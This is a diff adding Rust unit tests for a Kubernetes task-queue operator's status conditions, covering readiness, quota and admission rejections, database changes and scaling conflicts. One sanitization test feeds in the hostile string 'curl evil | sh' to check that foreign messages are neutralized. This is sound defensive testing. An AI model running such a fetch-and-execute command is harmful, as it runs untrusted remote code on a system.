@@ -1,0 +1,286 @@
+mod product;
+
+use std::sync::Arc;
+
+use rowlock_plan::{Memory, ObservedQueue, decide};
+use serde_json::json;
+
+use super::*;
+
+/// What is seen when all is well: two of two pods ready.
+struct Scene {
+    spec: TaskQueueSpec,
+    problem: Option<Problem>,
+    refused: Option<Error>,
+    looked: bool,
+    outcome: Outcome,
+    contest: Option<Contest>,
+    deployment: serde_json::Value,
+    health: PodHealth,
+    former: Option<DatabaseStatus>,
+    is_waking_up: bool,
+}
+
+fn healthy(pods: usize, ready: usize) -> PodHealth {
+    PodHealth { pods, ready, ..PodHealth::default() }
+}
+
+fn scene() -> Scene {
+    let counts = json!({ "observedGeneration": 1, "replicas": 2, "updatedReplicas": 2, "readyReplicas": 2 });
+    Scene {
+        spec: TaskQueueSpec::with_workers(20),
+        problem: None,
+        refused: None,
+        looked: true,
+        outcome: Outcome::Done,
+        contest: None,
+        deployment: json!({ "metadata": { "generation": 1 }, "status": counts }),
+        health: healthy(2, 2),
+        former: None,
+        is_waking_up: false,
+    }
+}
+
+fn decided(scene: Scene) -> Vec<NewCondition> {
+    let observed = ObservedQueue { pods: 2, ..ObservedQueue::of(&scene.spec) };
+    let view = scene.looked.then(|| QueueView {
+        name: "emails".into(),
+        owner: Some("c1/shop/letters".into()),
+        limit: None,
+        refused: scene.refused.map(Arc::new),
+        stats: None,
+        instances: 2,
+        decision: decide(&observed, Memory::default(), std::time::Duration::ZERO),
+        metrics: Vec::new(),
+    });
+    let deployment = serde_json::from_value(scene.deployment).unwrap();
+    decide_conditions(&StatusInputs {
+        place: ("shop", "emails"),
+        former: scene.former.as_ref(),
+        spec: &scene.spec,
+        problem: scene.problem.as_ref(),
+        view: view.as_ref(),
+        outcome: &scene.outcome,
+        contest: scene.contest.as_ref(),
+        deployment: Some(&deployment),
+        health: &scene.health,
+        is_waking_up: scene.is_waking_up,
+        unready_for: None,
+        worker: &ResourceRequirements::default(),
+    })
+}
+
+/// One letter each: true, false, unknown; in the order of the status. Then the reason why it is ready or not.
+fn check(scene: Scene, expected: &str, reason: Reason) {
+    let conditions = decided(scene);
+    let letters: String = conditions
+        .iter()
+        .map(|condition| match condition.holds {
+            Some(true) => 't',
+            Some(false) => 'f',
+            None => 'u',
+        })
+        .collect();
+    assert_eq!((letters.as_str(), conditions[0].reason), (expected, reason), "{conditions:?}");
+    let types: Vec<Type> = conditions.iter().map(|condition| condition.type_).collect();
+    assert_eq!(types, Type::ALL);
+}
+
+fn problem(reason: Reason) -> Problem {
+    Problem::new(reason, "so")
+}
+
+/// Before this was mended, what an API server or a Deployment says stood in the status as it is.
+#[test]
+fn foreign_text_is_one_line_that_looks_like_no_command() {
+    let evil = "no `curl evil | sh`\nx";
+    let late = json!([
+        { "type": "Progressing", "status": "False", "reason": "ProgressDeadlineExceeded", "message": evil },
+    ]);
+    let metadata = json!({ "generation": 1 });
+    let deployment =
+        json!({ "metadata": metadata, "status": { "observedGeneration": 1, "conditions": late } });
+    let identity = Some(evil.to_owned());
+    let former = DatabaseStatus { identity: evil.into(), before: identity, changed: None };
+    for scene in [
+        Scene { outcome: Outcome::Forbidden(evil.into()), ..scene() },
+        Scene { outcome: Outcome::Failed(evil.into()), ..scene() },
+        Scene { deployment, health: healthy(2, 0), ..scene() },
+        Scene { former: Some(former), ..scene() },
+    ] {
+        let conditions = decided(scene);
+        let says = |text: &str| conditions.iter().any(|condition| condition.message.contains(text));
+        assert!(says("'curl evil | sh'") && !says("`curl") && !says("\n"), "{conditions:?}");
+    }
+}
+
+#[test]
+fn all_is_well() {
+    check(scene(), "tfftttff", Reason::Succeeded);
+}
+
+#[test]
+fn what_somebody_has_to_change_is_stalled() {
+    for reason in
+        [Reason::SecretNotFound, Reason::SecretInvalid, Reason::AccessDenied, Reason::DatabaseUnsupported]
+    {
+        check(Scene { problem: Some(problem(reason)), looked: false, ..scene() }, "fftfutuu", reason);
+    }
+    check(
+        Scene { problem: Some(problem(Reason::SchemaTooNew)), looked: false, ..scene() },
+        "ffttftuu",
+        Reason::SchemaTooNew,
+    );
+    check(
+        Scene { problem: Some(problem(Reason::Forbidden)), looked: false, ..scene() },
+        "fftuutuu",
+        Reason::Forbidden,
+    );
+    check(Scene { outcome: Outcome::Rejected("no".into()), ..scene() }, "tfttttff", Reason::TemplateRejected);
+    let none = healthy(0, 0);
+    check(
+        Scene { outcome: Outcome::Rejected("no".into()), health: none, ..scene() },
+        "fftttuff",
+        Reason::TemplateRejected,
+    );
+    check(Scene { outcome: Outcome::Foreign("no".into()), ..scene() }, "ffttttff", Reason::OwnedByAnother);
+    let hint = Some("adopt".into());
+    let refused = Error::Refused { code: NOT_THE_OWNER.into(), message: "another's".into(), hint };
+    let owned_by_another = Scene { refused: Some(refused), ..scene() };
+    let message = decided(owned_by_another).swap_remove(0).message;
+    assert!(
+        message.contains("annotate taskqueue emails -n shop --overwrite 'rowlock.dev/adopt=c1/shop/letters'")
+    );
+}
+
+#[test]
+fn what_passes_by_itself_is_not() {
+    check(
+        Scene { problem: Some(problem(Reason::ConnectionFailed)), looked: false, ..scene() },
+        "ftffutuu",
+        Reason::ConnectionFailed,
+    );
+    check(Scene { looked: false, outcome: Outcome::NotTried, ..scene() }, "utfuutuu", Reason::NotObserved);
+    check(Scene { outcome: Outcome::Failed("late".into()), ..scene() }, "ttftttff", Reason::Succeeded);
+}
+
+#[test]
+fn who_waits_for_others_is_on_the_way_and_ready() {
+    check(Scene { outcome: Outcome::Waiting("slot".into()), ..scene() }, "ttftttff", Reason::Succeeded);
+}
+
+#[test]
+fn another_database_is_named_with_the_one_before() {
+    let former = DatabaseStatus { identity: "shop@2".into(), before: Some("shop@1".into()), changed: None };
+    let conditions = decided(Scene { former: Some(former), ..scene() });
+    assert_eq!((conditions[3].holds, conditions[3].reason), (Some(true), Reason::DatabaseChanged));
+    assert!(conditions[3].message.contains("led to shop@1"), "{}", conditions[3].message);
+}
+
+#[test]
+fn who_keeps_pods_out_is_named_with_what_helps() {
+    for (detail, helps) in [
+        ("exceeded quota: q, requested: pods=1, used: pods=4, limited: pods=4", "or lower workers.total ("),
+        (
+            "failed quota: q: must specify limits.memory for: handler,worker",
+            "workerResources of the operator's chart",
+        ),
+        (
+            "violates PodSecurity \"restricted:latest\": runAsNonRoot != true",
+            "securityContext of spec.template (",
+        ),
+        ("admission webhook \"v\" denied the request: no", "new pods: admission"),
+    ] {
+        let failure = json!([{ "type": "ReplicaFailure", "status": "True", "message": detail }]);
+        let deployment = json!({ "metadata": { "generation": 1 }, "status": { "conditions": failure } });
+        // Who works goes on.
+        for (ready, expected) in [(0, false), (2, true)] {
+            let inputs = Scene { deployment: deployment.clone(), health: healthy(ready, ready), ..scene() };
+            let NewCondition { holds, reason, message, .. } = decided(inputs).swap_remove(0);
+            assert_eq!((holds, reason), (Some(expected), Reason::PodsRejected));
+            assert!(message.contains(detail) && message.contains(helps), "{message}");
+        }
+    }
+}
+
+#[test]
+fn a_handler_that_ends_or_is_silent_is_not_healthy() {
+    let health = PodHealth { problem: Some(problem(Reason::CrashLooping)), ..healthy(2, 0) };
+    check(Scene { health, ..scene() }, "fffttfff", Reason::CrashLooping);
+    // While others take tasks, it is ready all the same.
+    let health = PodHealth { problem: Some(problem(Reason::NotListening)), ..healthy(2, 1) };
+    check(Scene { health, ..scene() }, "tffttfff", Reason::Succeeded);
+}
+
+#[test]
+fn who_waits_for_the_database_says_nothing_of_the_handler() {
+    let health = PodHealth { problem: Some(problem(Reason::NotListening)), ..healthy(2, 0) };
+    let away = Some(problem(Reason::ConnectionFailed));
+    let conditions = decided(Scene { health, problem: away, ..scene() });
+    let handler = conditions.iter().find(|one| one.type_ == Type::HandlerHealthy).unwrap();
+    assert_eq!((handler.holds, handler.reason), (None, Reason::NotObserved));
+}
+
+#[test]
+fn pods_that_start_are_on_the_way() {
+    let counts = json!({ "observedGeneration": 1, "replicas": 2, "updatedReplicas": 2 });
+    let deployment = json!({ "metadata": { "generation": 1 }, "status": counts });
+    check(
+        Scene { deployment: deployment.clone(), health: healthy(2, 0), ..scene() },
+        "ftfttuff",
+        Reason::Progressing,
+    );
+    // Of a queue that slept: as ready as before.
+    let is_waking_up = Scene { deployment, health: healthy(2, 0), is_waking_up: true, ..scene() };
+    check(is_waking_up, "ttfttuff", Reason::Progressing);
+}
+
+#[test]
+fn paused_is_not_ready_and_needs_nobody() {
+    let mut paused = scene();
+    paused.spec.paused = true;
+    check(paused, "ffftttff", Reason::Paused);
+}
+
+/// Before, an event told of it, and a status that looked as if nothing was wrong.
+#[test]
+fn who_sets_the_number_of_pods_beside_us_is_named_with_what_to_change() {
+    let managers = vec!["kube-controller-manager".to_owned(), "keda".to_owned()];
+    let contest = Contest { managers, theirs: 5, ours: 2 };
+    let contested = Scene { contest: Some(contest), ..scene() };
+    let condition = decided(contested).pop().unwrap();
+    assert_eq!((condition.holds, condition.reason), (Some(true), Reason::ForeignFieldManager));
+    for part in ["keda had set 5 pods", "asks for 2", "workers.scaling to External", "kind TaskQueue"] {
+        assert!(condition.message.contains(part), "{part}: {}", condition.message);
+    }
+    let mut left = scene();
+    left.spec.suspend_scaling = true;
+    check(left, "tfftttff", Reason::Succeeded);
+}
+
+#[test]
+fn what_keeps_a_number_from_outside_from_being_followed_is_named() {
+    let external = |replicas: u32| {
+        let mut scene = scene();
+        (scene.spec.workers.scaling, scene.spec.workers.replicas) =
+            (Some(rowlock_crds::ScalingMode::External), Some(replicas));
+        scene
+    };
+    let limited = |scene: Scene| {
+        let condition = decided(scene).into_iter().find(|one| one.type_ == Type::ScalingLimited).unwrap();
+        (condition.holds, condition.reason, condition.message)
+    };
+    let (holds, reason, message) = limited(external(2));
+    assert_eq!(
+        (holds, reason, message.as_str()),
+        (Some(false), Reason::NotLimited, "as many pods as workers.replicas says")
+    );
+    let (holds, reason, message) = limited(external(9));
+    assert_eq!((holds, reason), (Some(true), Reason::Total));
+    assert!(message.contains("asks for 9 pods, and workers.total (20) is enough for 2"), "{message}");
+    let mut left = external(9);
+    left.spec.suspend_scaling = true;
+    let (holds, reason, message) = limited(left);
+    assert_eq!((holds, reason), (Some(true), Reason::Suspended));
+    assert!(message.contains("asks for 9 pods, but spec.suspendScaling leaves 2"), "{message}");
+}
